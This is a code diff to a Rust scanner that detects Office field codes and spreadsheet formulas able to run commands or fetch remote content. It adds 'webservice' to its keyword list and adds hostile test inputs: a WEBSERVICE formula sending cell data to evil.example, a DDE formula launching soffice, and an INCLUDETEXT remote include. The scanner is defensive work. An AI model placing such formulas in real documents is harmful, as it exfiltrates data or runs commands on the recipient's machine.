@@ -1,10 +1,16 @@
-//! The fields of a text of Office Open XML: orders that are carried out when they are refreshed, however they are cut
-//! to pieces.
+//! The fields of a text of Office Open XML, and the formulas of cells: orders that are carried out when they are
+//! refreshed, however they are cut to pieces.
 
 use super::markup::{Piece, Tag};
 
-/// What runs, or fetches something from elsewhere, wherever a field says it.
-const ANYWHERE: &[&str] = &["dde", "ddeauto", "includepicture", "includetext"];
+/// What runs, or fetches something from elsewhere, wherever a field or a formula says it.
+const ANYWHERE: &[&str] = &[
+    "dde",
+    "ddeauto",
+    "includepicture",
+    "includetext",
+    "webservice",
+];
 /// The same as the first word of a field: elsewhere these are words like others.
 const FIRST: &[&str] = &["include", "import", "link", "embed", "database", "rd"];
 /// Where a field begins in what is said, and where its order ends.
@@ -26,7 +32,7 @@ impl Fields {
                 let text = text.replace([BEGINS, ENDS], " ");
                 self.said += &text;
             }
-            Piece::Closes("instrText" | "delInstrText") => self.is_inside = false,
+            Piece::Closes("instrText" | "delInstrText" | "f") => self.is_inside = false,
             Piece::Closes("p") => self.said.push(' '),
             _ => {}
         }
@@ -34,7 +40,8 @@ impl Fields {
 
     fn open(&mut self, tag: &Tag<'_>) {
         match tag.name {
-            "instrText" | "delInstrText" => self.is_inside = !tag.is_whole,
+            // What an order of a text says, and the formula of a cell.
+            "instrText" | "delInstrText" | "f" => self.is_inside = !tag.is_whole,
             "fldChar" => {
                 let begins = |kind: &str| kind.trim().eq_ignore_ascii_case("begin");
                 let mark = if tag.all("fldCharType").any(begins) {
@@ -46,7 +53,7 @@ impl Fields {
             }
             _ => {}
         }
-        for whole in tag.all("instr") {
+        for whole in tag.all("instr").chain(tag.all("formula")) {
             let whole = whole.replace([BEGINS, ENDS], " ");
             self.said += &format!("{BEGINS}{whole}{ENDS}");
         }
@@ -127,6 +134,8 @@ mod tests {
         for bad in [
             "<f x:instr='PAGE' w:instr='DDEAUTO c'/>",
             "<f w:instr='INCLUDETEXT \\\\evil'/>",
+            "<f>WEBSERVICE(\"http://evil.example/\"&amp;A1)</f>",
+            "<c table:formula='of:=DDE(\"soffice\";\"x\";\"a\")'/>",
             "<instrText>DD<x/>E</instrText>",
             "<delInstrText>DDE</delInstrText>",
             "<fldChar x:fldCharType='end' w:fldCharType='begin'/><instrText>LINK a</instrText>",
